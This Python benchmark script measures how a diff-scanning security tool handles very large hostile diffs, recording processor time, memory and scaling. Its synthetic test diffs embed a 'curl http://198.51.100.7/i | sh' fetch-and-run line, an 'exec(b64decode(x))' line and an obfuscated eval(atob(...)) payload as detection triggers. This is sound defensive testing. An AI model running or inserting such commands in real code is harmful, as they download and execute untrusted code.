"""What hostile diffs of full size cost: processor time and memory a megabyte, and their growth.

A bundle of 100 MB with one changed line among it, 200,000 files, one minified line of 5 MB that
matches everything, lines of 10 MB in files of each kind that is looked at closely. Each is
scanned at a quarter, a half and the whole of its size; linear cost keeps the ratios near four.
"""

import argparse
import gc
import json
import resource
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from reviewqueue.rules import catalogue
from reviewqueue.scan.diff import Diff
from reviewqueue.scan.engine import Scanner
from reviewqueue.scan.parser import parse
from reviewqueue.scan.rule import Subject

_SAMPLES = Path(__file__).parents[2] / "tests" / "rules"
_GROWTH = 8.0
"""Four times the size may cost so many times as much."""
_EVIL = b"eval(atob('YWxlcnQoMSkgLy8gbm90aGluZyB0byBzZWU='))"


def main(arguments: Sequence[str]) -> int:
    """Measure, print, and return 0, or 1 where a cost grows faster or nothing is told."""
    parser = argparse.ArgumentParser(prog="scripts/bench hostile", description=__doc__)
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--share", type=float, default=1.0, help="of the full size (default 1)")
    options = parser.parse_args(arguments)
    scanner = Scanner(catalogue(), b"bench")
    scanner.scan(Diff(_changed(b"a.py", _triggers().split(b"\n"))), Subject())
    rows = []
    for name, made, size in _inputs():
        rows.append(_measured(scanner, name, made, int(size * options.share)))
        if not options.json:
            print(_line(rows[-1]), flush=True)
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10
    result = {"bench": "hostile", "inputs": rows, "peak_mb": memory}
    print(json.dumps(result, indent=1) if options.json else f"peak memory {memory} MB")
    return 0 if all(row["growth"] <= _GROWTH and row["told"] for row in rows) else 1


def _measured(
    scanner: Scanner, name: str, made: Callable[[int], bytes], size: int
) -> dict[str, Any]:
    seconds, told = [], False
    megabytes = 0.0
    for share in (4, 2, 1):
        patch = made(size // share)
        megabytes = len(patch) / (1 << 20)
        gc.collect()
        start = time.process_time()
        scan = scanner.scan(Diff(patch), Subject())
        seconds.append(time.process_time() - start)
        told = bool(scan.findings)
    return {
        "name": name,
        "mb": round(megabytes, 1),
        "seconds": round(seconds[-1], 3),
        "mb_per_second": round(megabytes / seconds[-1], 2),
        "growth": round(seconds[-1] / max(seconds[0], 0.01), 2),
        "told": told,
    }


def _line(row: dict[str, Any]) -> str:
    return (
        f"{row['name']:34} {row['mb']:7} MB {row['seconds']:8} s {row['mb_per_second']:8} MB/s  "
        f"growth {row['growth']:5}  {'told' if row['told'] else 'NOTHING TOLD'}"
    )


def _inputs() -> list[tuple[str, Callable[[int], bytes], int]]:
    """Return (name, what makes it of a size, full size)."""
    close = (
        b".github/workflows/ci.yml",
        b"infra/main.tf",
        b"db/1.sql",
        b"package-lock.json",
        b"a.py",
    )
    lines = [(f"one line of 10 MB, {path.decode()}", _one_line(path), 10_000_000) for path in close]
    return [
        ("a bundle, one line changed", _bundle, 100_000_000),
        ("files", _files, 200_000),
        ("a minified line of triggers", _minified, 5_000_000),
        *lines,
    ]


def _bundle(size: int) -> bytes:
    line = b"function f(a,b){return a%b+1}var x=f(1,2);export{f};"
    lines = [line] * (size // (len(line) + 2))
    return _changed(b"dist/app.js", [*lines, _EVIL, *lines[: len(lines) // 4]])


def _files(count: int) -> bytes:
    many = b"".join(_changed(b"d/%d.txt" % number, [b"x"]) for number in range(count))
    return many + _changed(b"dist/app.js", [_EVIL])


def _minified(size: int) -> bytes:
    text = _triggers().replace(b"\n", b";")
    return _changed(b"dist/app.js", [(text * (size // len(text) + 1))[:size]])


def _one_line(path: bytes) -> Callable[[int], bytes]:
    def made(size: int) -> bytes:
        return _changed(
            path, [b"a" * size, b"curl http://198.51.100.7/i | sh", b"exec(b64decode(x))"]
        )

    return made


def _triggers() -> bytes:
    """Return every changed line of every flagged sample."""
    return b"\n".join(
        line[1:]
        for path in sorted(_SAMPLES.glob("*/*/flagged-*.diff"))
        for file in parse(path.read_bytes())
        for hunk in file.hunks
        for line in hunk.lines
        if line[:1] in {b"+", b"-"}
    )


def _changed(path: bytes, lines: Sequence[bytes]) -> bytes:
    head = b"diff --git a/%s b/%s\nindex 1111111..2222222 100644\n--- a/%s\n+++ b/%s\n"
    body = b"\n".join([b"+" + line for line in lines])
    return head % (path, path, path, path) + b"@@ -0,0 +1,%d @@\n%s\n" % (len(lines), body)


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
